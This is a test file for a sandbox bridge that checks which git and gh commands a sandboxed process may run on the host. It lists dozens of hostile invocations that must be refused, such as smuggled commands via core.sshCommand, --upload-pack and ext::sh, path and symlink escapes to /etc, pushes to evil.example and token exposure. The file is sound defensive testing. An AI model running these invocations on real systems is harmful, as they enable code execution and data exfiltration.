// The bridge policy table: malicious invocations are refused with a reason, everyday ones are allowed.
import { afterAll, describe, expect, test } from "bun:test";
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { decideGit, parsePushRefspec } from "../../../src/bridge/git-policy";
import { decideGh, repoUrlOf } from "../../../src/bridge/gh-policy";
import { makePathChecker } from "../../../src/bridge/path-check";
import type { PolicyContext } from "../../../src/bridge/policy";

const root = realpathSync(mkdtempSync(join(tmpdir(), "sbx-policy-")));
const clone = join(root, "clone");
const other = join(root, "clone-other");
mkdirSync(join(clone, "sub"), { recursive: true });
mkdirSync(other);
writeFileSync(join(clone, "body.md"), "hi");
writeFileSync(join(other, "body.md"), "secret");
symlinkSync("/etc", join(clone, "escape"));
symlinkSync(other, join(clone, "sibling"));
symlinkSync("../clone-other/body.md", join(clone, "body-link.md"));
afterAll(() => rmSync(root, { recursive: true, force: true }));

const VIEW = "/home/u/repo";
const ctx = (opts: Partial<PolicyContext["options"]> = {}): PolicyContext => ({
  remotes: { origin: "https://github.com/o/r.git", up: "http://127.0.0.1:9/x.git", ssh: "git@github.com:o/r2.git" },
  checkPath: makePathChecker({
    workspace: clone,
    workspaceView: VIEW,
    realpath: (p) => {
      try {
        return realpathSync(p);
      } catch {
        return null;
      }
    },
  }),
  options: { ghApi: false, ghGist: false, ...opts },
});

const git = (line: string, cwd = VIEW) => decideGit(line.split(" ").filter(Boolean), cwd, ctx());
const gitArgs = (args: string[], cwd = VIEW) => decideGit(args, cwd, ctx());

// [argv, a fragment the refusal reason must contain]
const maliciousGit: Array<[string[], string]> = [
  [["-c", "core.sshCommand=touch /tmp/x", "push", "origin", "main"], "-c"],
  [["-ccore.fsmonitor=x", "fetch"], "-c"],
  [["--config-env=core.pager=X", "fetch"], "-c"],
  [["--exec-path=/tmp/evil", "fetch"], "--exec-path"],
  [["--exec-path", "/tmp", "push"], "--exec-path"],
  [["fetch", "--upload-pack=touch /tmp/p", "origin"], "--upload-pack"],
  [["fetch", "--upload-pack", "evil", "origin"], "--upload-pack"],
  [["ls-remote", "-u", "evil", "origin"], "--upload-pack"],
  [["ls-remote", "-uevil", "origin"], "--upload-pack"],
  [["clone", "-u", "evil", "https://github.com/o/x"], "--upload-pack"],
  [["clone", "--upload-pack=evil", "https://github.com/o/x"], "--upload-pack"],
  [["push", "--receive-pack=evil", "origin", "main"], "--receive-pack"],
  [["push", "--exec=evil", "origin", "main"], "--exec"],
  [["push", "--exec", "evil", "origin", "main"], "--exec"],
  [["fetch", "ext::sh -c touch% /tmp/pwned"], "remote helper"],
  [["ls-remote", "ext::sh -c id"], "remote helper"],
  [["clone", "ext::sh -c id", "x"], "remote helper"],
  [["fetch", "fd::3"], "remote helper"],
  [["push", "testgit::/tmp/x", "main"], "remote helper"],
  [["fetch", "file:///etc"], "file://"],
  [["clone", "file:///home/u/other/.git"], "file://"],
  [["ls-remote", "file://" + other], "file://"],
  [["fetch", "/etc"], "outside the sandbox's workspace"],
  [["fetch", "../../../../etc"], "outside the sandbox's workspace"],
  [["fetch", VIEW + "/escape"], "resolves outside"],
  [["fetch", VIEW + "/sibling"], "resolves outside"],
  [["-C", "/etc", "fetch"], "outside the sandbox's workspace"],
  [["-C", VIEW + "/escape", "fetch"], "resolves outside"],
  [["-C", "..", "fetch"], "outside the sandbox's workspace"],
  [["-C" + VIEW + "-evil", "fetch"], "outside the sandbox's workspace"],
  [["--git-dir=/home/u/other/.git", "fetch"], "outside the sandbox's workspace"],
  [["--git-dir", VIEW + "/sibling", "fetch"], "resolves outside"],
  [["--work-tree=/", "fetch"], "outside the sandbox's workspace"],
  [["push", "https://evil.example/x.git", "main"], "not a host"],
  [["push", "https://github.com/o/r.git", "main"], "by name"],
  [["fetch", "https://evil.example/x.git"], "not a host"],
  [["ls-remote", "https://evil.example/x.git"], "not a host"],
  [["clone", "https://github.com.evil.example/o/r"], "not a host"],
  [["clone", "https://user:pw@github.com/o/r"], "credentials"],
  [["fetch", "ssh://git@github.com/o/r"], "transport"],
  [["fetch", "git@evil.example:o/r"], "ssh"],
  [["fetch", "git://github.com/o/r"], "transport"],
  [["push", "nosuchremote", "main"], "not a remote of the host"],
  [["push", "origin", "main:refs/notes/x"], "only refs/heads"],
  [["push", "origin", "main:refs/remotes/origin/x"], "only refs/heads"],
  [["push", "origin", "refs/heads/*:refs/heads/*"], "wildcard"],
  [["push", "origin", "main:../x"], "valid ref name"],
  [["push", "origin", "--mirror"], "--mirror"],
  [["push", "--all", "origin"], "not allowed"],
  [["push", "--repo=https://evil.example/x", "main"], "--repo"],
  [["push", "--signed", "origin", "main"], "signing"],
  [["push", "--recurse-submodules=on-demand", "origin", "main"], "submodule"],
  [["fetch", "--recurse-submodules", "origin"], "submodule"],
  [["clone", "--template=/tmp/hooks", "https://github.com/o/x"], "--template"],
  [["clone", "--reference", "/home/u/other", "https://github.com/o/x"], "--reference"],
  [["clone", "-c", "core.hooksPath=/tmp", "https://github.com/o/x"], "-c"],
  [["clone", "--separate-git-dir=/tmp/g", "https://github.com/o/x"], "--separate-git-dir"],
  [["clone", "https://github.com/o/x", "/tmp/outside"], "outside the sandbox's workspace"],
  [["fetch", "origin", "main:refs/heads/main"], "destination"],
  [["fetch", "--server-option=x", "origin"], "server options"],
  [["pull", "--rebase=interactive", "origin"], "not allowed"],
  [["gc"], "not something the bridge runs"],
  [["config", "core.fsmonitor", "x"], "not something the bridge runs"],
  [["submodule", "update", "--init"], "not something the bridge runs"],
  [["daemon", "--export-all"], "not something the bridge runs"],
  [["-p", "log"], "not something the bridge runs"],
  [[], "no git subcommand"],
  [["--namespace=x", "push", "origin"], "--namespace"],
  [["fetch", "-u", "origin"], "not allowed"],
  [["push", "origin", "--", "-evil"], "not a plain revision"],
];

const legitimateGit: string[][] = [
  ["push"],
  ["push", "origin"],
  ["push", "origin", "main"],
  ["push", "-u", "origin", "feature/x"],
  ["push", "--set-upstream", "origin", "HEAD:refs/heads/feature"],
  ["push", "--force-with-lease", "origin", "feature"],
  ["push", "-f", "origin", "+feature:feature"],
  ["push", "origin", "--delete", "old-branch"],
  ["push", "origin", ":old-branch"],
  ["push", "origin", "v1.0:refs/tags/v1.0"],
  ["push", "-q", "--no-verify", "up", "main"],
  ["push", "-o", "ci.skip", "origin", "main"],
  ["fetch"],
  ["fetch", "origin"],
  ["fetch", "--prune", "origin"],
  ["fetch", "-q", "up", "main"],
  ["fetch", "--tags", "origin"],
  ["pull"],
  ["pull", "--rebase", "origin", "main"],
  ["pull", "--ff-only"],
  ["pull", "--rebase=merges", "origin"],
  ["ls-remote", "origin"],
  ["ls-remote", "--heads", "origin", "main"],
  ["ls-remote", "https://github.com/o/other.git"],
  ["clone", "https://github.com/o/other.git"],
  ["clone", "--depth", "1", "-b", "main", "https://github.com/o/other.git", "sub/other"],
  ["-C", VIEW + "/sub", "fetch", "origin"],
  ["-C", "sub", "push", "origin", "main"],
  ["--no-pager", "fetch", "origin"],
  ["fetch", "ssh"],
];

describe("git: malicious invocations are refused with a reason", () => {
  test("there are at least 50", () => expect(maliciousGit.length).toBeGreaterThanOrEqual(50));
  for (const [argv, why] of maliciousGit) {
    test(JSON.stringify(argv), () => {
      const d = gitArgs(argv);
      expect(d.ok).toBe(false);
      if (!d.ok) expect(d.reason).toContain(why);
    });
  }
});

describe("git: everyday invocations are allowed", () => {
  test("there are at least 20", () => expect(legitimateGit.length + legitimateGh.length).toBeGreaterThanOrEqual(20));
  for (const argv of legitimateGit) {
    test(JSON.stringify(argv), () => {
      const d = gitArgs(argv);
      if (!d.ok) throw new Error(d.reason);
      expect(d.ok).toBe(true);
    });
  }
});

const maliciousGh: Array<[string[], string, Partial<PolicyContext["options"]>?]> = [
  [["api", "/user"], "disabled"],
  [["api", "-X", "DELETE", "/repos/o/r"], "disabled"],
  [["gist", "create", "body.md"], "disabled"],
  [["auth", "token"], "the login is the host's"],
  [["auth", "status", "--show-token"], "the token is never shown"],
  [["secret", "list"], "not something"],
  [["config", "set", "editor", "vim"], "not something"],
  [["extension", "install", "evil/gh-x"], "not something"],
  [["alias", "set", "x", "!sh"], "not something"],
  [["pr", "checkout", "1"], "not allowed"],
  [["pr", "create", "--web"], "browser"],
  [["pr", "create", "-R", "evil/repo", "-t", "x"], "this sandbox's repository only"],
  [["pr", "create", "--repo=evil/repo"], "this sandbox's repository only"],
  [["pr", "create", "--body-file", "/etc/passwd"], "outside the sandbox's workspace"],
  [["pr", "create", "-F", VIEW + "/body-link.md"], "resolves outside"],
  [["pr", "create", "--body-file", "-"], "stdin"],
  [["issue", "create", "--editor"], "editor"],
  [["repo", "clone", "o/r"], "not allowed"],
  [["repo", "delete", "o/r"], "not allowed"],
  [["run", "download", "1"], "not allowed"],
  [["release", "download"], "not something"],
  [["--hostname=evil.example", "pr", "list"], "--hostname"],
  [["api", "--hostname", "evil.example", "/user"], "--hostname", { ghApi: true }],
  [["pr", "view", "https://evil.example/o/r/pull/1"], "not a URL"],
];

const legitimateGh: string[][] = [
  ["pr", "create", "--title", "Add x", "--body-file", "body.md"],
  ["pr", "create", "-t", "x", "-b", "y", "-B", "main", "-d"],
  ["pr", "view", "12", "--comments"],
  ["pr", "list", "--state", "open", "--json", "number,title"],
  ["pr", "checks", "12"],
  ["issue", "view", "3"],
  ["issue", "comment", "3", "--body", "done"],
  ["run", "view", "--log-failed", "123"],
];

describe("gh", () => {
  for (const [argv, why, opts] of maliciousGh) {
    test(`refused: ${JSON.stringify(argv)}`, () => {
      const d = decideGh(argv, VIEW, ctx(opts));
      expect(d.ok).toBe(false);
      if (!d.ok) expect(d.reason).toContain(why);
    });
  }
  for (const argv of legitimateGh) {
    test(`allowed: ${JSON.stringify(argv)}`, () => {
      const d = decideGh(argv, VIEW, ctx());
      if (!d.ok) throw new Error(d.reason);
    });
  }
  test("gh api and gist when the user enables them; gh api as a GET of one repository path only", () => {
    expect(decideGh(["api", "repos/{owner}/{repo}/pulls", "--jq", ".[].number"], VIEW, ctx({ ghApi: true }))).toEqual({
      ok: true,
      plan: { tool: "gh", group: "api", sub: "", args: ["api", "--jq=.[].number", "--method", "GET", "--", "repos/{owner}/{repo}/pulls"] },
    });
    expect(decideGh(["api", "-X", "GET", "/repos/o/r/issues?state=open", "--paginate"], VIEW, ctx({ ghApi: true })).ok).toBe(true);
    expect(decideGh(["gist", "list"], VIEW, ctx({ ghGist: true })).ok).toBe(true);
    const refusedApi: [string[], string][] = [
      [["api", "/user"], "only this repository's paths"],
      [["api", "graphql", "-f", "query=x"], "not allowed"],
      [["api", "-X", "POST", "repos/o/r/issues"], "only GET"],
      [["api", "--method=DELETE", "repos/o/r"], "only GET"],
      [["api", "--hostname", "evil.example", "repos/o/r"], "another host"],
      [["api", "-H", "Authorization: x", "repos/o/r"], "not allowed"],
      [["api", "--input", "f", "repos/o/r"], "not allowed"],
      [["api", "repos/o/r/../../user"], "only this repository's paths"],
      [["api", "repos/o/r", "repos/x/y"], "exactly one path"],
    ];
    for (const [argv, why] of refusedApi) {
      const d = decideGh(argv, VIEW, ctx({ ghApi: true }));
      expect(d.ok).toBe(false);
      if (!d.ok) expect(d.reason).toContain(why);
    }
    const off = decideGh(["api", "repos/o/r"], VIEW, ctx());
    expect(!off.ok && off.reason).toContain("sbx bridge NAME --allow gh-api");
  });
  test("--body-file becomes stdin read by the bridge from the checked host path", () => {
    const d = decideGh(["pr", "create", "-t", "x", "--body-file", "body.md"], VIEW, ctx());
    expect(d).toEqual({ ok: true, plan: { tool: "gh", group: "pr", sub: "create", args: ["pr", "create", "--title=x", "--body-file", "-"], bodyFile: join(clone, "body.md"), acts: "creates" } });
  });
});

describe("plans", () => {
  test("the URL comes from the host's remotes, never from the sandbox", () => {
    const d = git("push -u origin feature");
    expect(d.ok && d.plan).toMatchObject({ op: "push", remote: "origin", url: "https://github.com/o/r.git", refspecs: [{ force: false, src: "feature", dst: "refs/heads/feature" }] });
  });
  test("ssh remotes of well-known forges are reached over https", () => {
    const d = git("fetch ssh");
    expect(d.ok && d.plan.url).toBe("https://github.com/o/r2.git");
  });
  test("-C moves the checked working directory", () => {
    const d = git("-C sub fetch");
    expect(d.ok && d.plan.cwd).toBe(join(clone, "sub"));
  });
  test("refspecs", () => {
    expect(parsePushRefspec("+a:b")).toEqual({ ok: true, plan: { force: true, src: "a", dst: "refs/heads/b" } });
    expect(parsePushRefspec("HEAD")).toEqual({ ok: true, plan: { force: false, src: "HEAD", dst: "" } });
    expect(parsePushRefspec(":gone")).toEqual({ ok: true, plan: { force: false, src: "", dst: "refs/heads/gone" } });
    // No destination: the branch of that name, unless the bridge learns the source is a tag.
    expect(parsePushRefspec("v1")).toEqual({ ok: true, plan: { force: false, src: "v1", dst: "refs/heads/v1", sameAsSource: true } });
    expect(parsePushRefspec("refs/tags/v1")).toEqual({ ok: true, plan: { force: false, src: "refs/tags/v1", dst: "refs/tags/v1" } });
  });
});

describe("sameRepository: the host's own remote by URL (the only place its token goes)", () => {
  const { sameRepository } = require("../../../src/bridge/git-policy") as typeof import("../../../src/bridge/git-policy");
  test("the same repository however it is spelled; another repository on that host is not", () => {
    expect(sameRepository("https://github.com/o/r.git", "https://GitHub.com/o/r")).toBe(true);
    expect(sameRepository("https://github.com/o/r.git", "https://github.com/o/r/")).toBe(true);
    expect(sameRepository("https://github.com/o/r.git", "https://github.com/o/other.git")).toBe(false);
    expect(sameRepository("https://github.com/o/r.git", "https://github.com/o/r.git.evil")).toBe(false);
    expect(sameRepository("https://github.com/o/r.git", "https://github.com.evil.example/o/r.git")).toBe(false);
    expect(sameRepository("https://github.com/o/r.git", "https://github.com/o/r/../other")).toBe(false);
  });
});

describe("the token goes only to this repo's own remotes, and to repos the user added for this sandbox", () => {
  test("another repository on the same host gets no token unless --allow-repo named it; a host nobody named is refused", () => {
    const plain = decideGit(["ls-remote", "https://github.com/acme/shared.git"], VIEW, ctx());
    expect(plain.ok && plain.plan.own).toBe(false);
    const added = decideGit(["ls-remote", "https://github.com/acme/shared.git"], VIEW, { ...ctx(), extraRepos: ["https://github.com/acme/shared"] });
    expect(added.ok && added.plan.own).toBe(true);
    const otherHost = decideGit(["clone", "https://gitlab.example/acme/x.git", "x"], VIEW, ctx());
    expect(otherHost.ok).toBe(false);
    const addedHost = decideGit(["clone", "https://gitlab.example/acme/x.git", "x"], VIEW, { ...ctx(), extraRepos: ["https://gitlab.example/acme/x"] });
    expect(addedHost.ok && addedHost.plan.own).toBe(true);
    // Pushes go to the host repo's remotes by name only, added repos or not.
    expect(decideGit(["push", "https://github.com/acme/shared.git", "main"], VIEW, { ...ctx(), extraRepos: ["https://github.com/acme/shared"] }).ok).toBe(false);
  });
});

describe("gh -R/--repo", () => {
  test("another repository is refused, naming --allow-repo; one the user added for this sandbox is taken, and the flag leaves the args", () => {
    const off = decideGh(["pr", "list", "-R", "acme/lib"], VIEW, ctx());
    expect(!off.ok && off.reason).toContain("sbx bridge NAME --allow-repo https://github.com/acme/lib");
    expect(!off.ok && off.ask).toEqual({ kind: "repo", url: "https://github.com/acme/lib" });
    const on = { ...ctx(), extraRepos: ["https://github.com/acme/lib"] };
    for (const argv of [["pr", "list", "-R", "acme/lib"], ["pr", "list", "--repo=github.com/acme/lib"], ["pr", "list", "-Racme/lib", "--json", "number"]]) {
      const d = decideGh(argv, VIEW, on);
      expect(d.ok && d.plan.repo).toBe("https://github.com/acme/lib");
      expect(d.ok && d.plan.args.some((a) => a.includes("acme/lib") || a === "-R" || a.startsWith("--repo"))).toBe(false);
    }
    expect(decideGh(["pr", "list", "-R", "acme/other"], VIEW, on).ok).toBe(false);
    expect(decideGh(["pr", "list", "-R", "evil.example/acme/lib"], VIEW, on).ok).toBe(false);
  });
});

describe("repoUrlOf: what an approval of gh -R names", () => {
  const remotes = { origin: "git@ghe.example.com:acme/widgets.git" };
  test("OWNER/REPO on the host repo's forge, HOST/OWNER/REPO as given; anything else nothing", () => {
    expect(repoUrlOf("acme/other", remotes)).toBe("https://ghe.example.com/acme/other");
    expect(repoUrlOf("GitHub.com/o/r", remotes)).toBe("https://github.com/o/r");
    for (const bad of ["../x", "a/b/c/d", "a", "a/b c", "a/..", "x/y?z=1"]) expect({ bad, u: repoUrlOf(bad, remotes) }).toEqual({ bad, u: undefined });
    expect(repoUrlOf("a/b", {})).toBeUndefined();
  });
});

describe("ssh remotes of the host repo", () => {
  test("a named ssh remote is taken (with its https form where the forge has one); a URL the sandbox names is not", () => {
    const base = { checkPath: () => ({ ok: true as const, path: "/w" }), options: {} } as unknown as PolicyContext;
    const c = { ...base, remotes: { origin: "git@git.corp.example:team/app.git", gh: "git@github.com:acme/app.git", bad: "ssh://-oProxyCommand=x/y" } } as PolicyContext;
    const own = decideGit(["fetch", "origin"], VIEW, c);
    expect(own.ok && [own.plan.url, own.plan.ssh]).toEqual(["git@git.corp.example:team/app.git", "git@git.corp.example:team/app.git"]);
    const gh = decideGit(["fetch", "gh"], VIEW, c);
    expect(gh.ok && [gh.plan.url, gh.plan.ssh]).toEqual(["https://github.com/acme/app.git", "git@github.com:acme/app.git"]);
    expect(decideGit(["fetch", "bad"], VIEW, c).ok).toBe(false);
    for (const url of ["git@git.corp.example:team/app.git", "ssh://git@git.corp.example/team/app.git"]) expect(decideGit(["fetch", url], VIEW, c).ok).toBe(false);
  });
});

test("an unknown remote name is refused naming the host repo's remotes, not a path", () => {
  const c = { checkPath: () => ({ ok: true as const, path: "/w" }), options: {}, remotes: { origin: "https://github.com/a/b", fork: "https://github.com/me/b" } } as unknown as PolicyContext;
  const d = decideGit(["push", "upstream", "main"], VIEW, c);
  expect(!d.ok && d.reason).toBe('remote "upstream" is not a remote of the host repository (its remotes: fork, origin); the sandbox has the same remotes under the same names');
});
